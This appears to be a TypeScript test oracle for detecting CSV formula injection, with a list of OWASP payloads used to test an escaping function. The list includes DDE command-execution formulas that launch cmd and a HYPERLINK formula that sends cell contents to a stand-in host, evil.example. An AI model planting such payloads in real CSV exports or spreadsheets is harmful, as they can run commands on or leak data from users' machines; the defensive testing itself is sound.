/**
 * An oracle for promise 19 written apart from formulaSafe (character by character, no shared regex), so
 * the tests do not grade the code with its own answer. Used by the CSV tests.
 */

const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r', '\0']);
/** Leading whitespace a spreadsheet may skip: any Unicode space except TAB, CR and LF. */
const isSkippableSpace = (ch: string): boolean => /\s/u.test(ch) && ch !== '\t' && ch !== '\r' && ch !== '\n';

/** Offsets where a line starts: 0 and after each CRLF, CR or LF. */
function lineStarts(cell: string): number[] {
  const starts = [0];
  for (let i = 0; i < cell.length; i++) {
    if (cell[i] === '\r' && cell[i + 1] === '\n') {
      starts.push(i + 2);
      i++;
    } else if (cell[i] === '\r' || cell[i] === '\n') starts.push(i + 1);
  }
  return starts;
}

/** True when some line, after skippable spaces, starts with a formula trigger (so it lacks the ' prefix). */
export function hasLiveFormulaLine(cell: string): boolean {
  for (const start of lineStarts(cell)) {
    let i = start;
    while (i < cell.length && isSkippableSpace(cell[i] as string)) i++;
    if (i < cell.length && TRIGGERS.has(cell[i] as string)) return true;
  }
  return false;
}

/** OWASP CSV-injection payloads and variants that hide the trigger behind spaces or a line break. */
export const OWASP_PAYLOADS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '\t=1',
  ' =1',
  '\u00a0=1',
  '\u3000=1',
  '\r=1',
  '\0=1',
  'harmless\n=1+1',
  'line one\r\n@SUM(A1)',
  'a\r-1',
  '  \n \u00a0+cmd',
  '=1\n=2\r\n=3',
  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
  '-',
  '@',
];
